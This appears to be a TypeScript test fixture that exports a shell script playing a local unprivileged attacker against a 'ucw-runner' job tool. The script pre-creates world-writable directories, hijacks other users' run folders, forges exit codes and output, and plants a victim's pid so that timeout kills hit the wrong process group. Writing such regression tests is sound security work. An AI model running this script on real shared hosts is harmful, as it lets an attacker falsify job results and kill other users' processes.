// The local attacker of issue 14 item 1 as a shell script, run as an unprivileged user on the
// host under test (tests/ssh/detached-attack on loopback, tests/lab/detached-attack on lab hosts).
// Arguments: MODE (forge | pid), the login user's HOME, the victim pid, the log file.

/**
 * The attacker: pre-creates every base it can (0777), then swaps each run folder someone else
 * makes in one for its own. `forge` plants exit status 0 and fake output; `pid` plants the pid of
 * `victim` (and keeps planting it) so that a timeout kill hits the victim's process group.
 */
export const ATTACK = String.raw`
mode=$1; home=$2; victim=$3; log=$4
umask 000
bases="/var/tmp/ucw-runner /var/lib/ucw-runner /run/ucw-runner $home/.ucw-runner"
for b in $bases; do mkdir "$b" 2>/dev/null && chmod 0777 "$b" && echo "created $b" >> "$log"; done
echo ready >> "$log"
while :; do
  for b in $bases; do
    for d in "$b"/*; do
      case $d in *.taken|*'*') continue ;; esac
      if [ -O "$d" ]; then
        [ "$mode" = pid ] && { echo "$victim" > "$d/pid.new"; mv -f "$d/pid.new" "$d/pid"; }
        continue
      fi
      [ -d "$d" ] || continue
      mv "$d" "$d.taken" 2>/dev/null || continue
      mkdir "$d" || continue
      if [ "$mode" = forge ]; then echo forged > "$d/out"; : > "$d/err"; echo 0 > "$d/rc"; fi
      echo "$victim" > "$d/pid"
      chmod 0777 "$d"; chmod 0666 "$d"/*
      echo "took $d" >> "$log"
    done
  done
  sleep 0.02
done`;
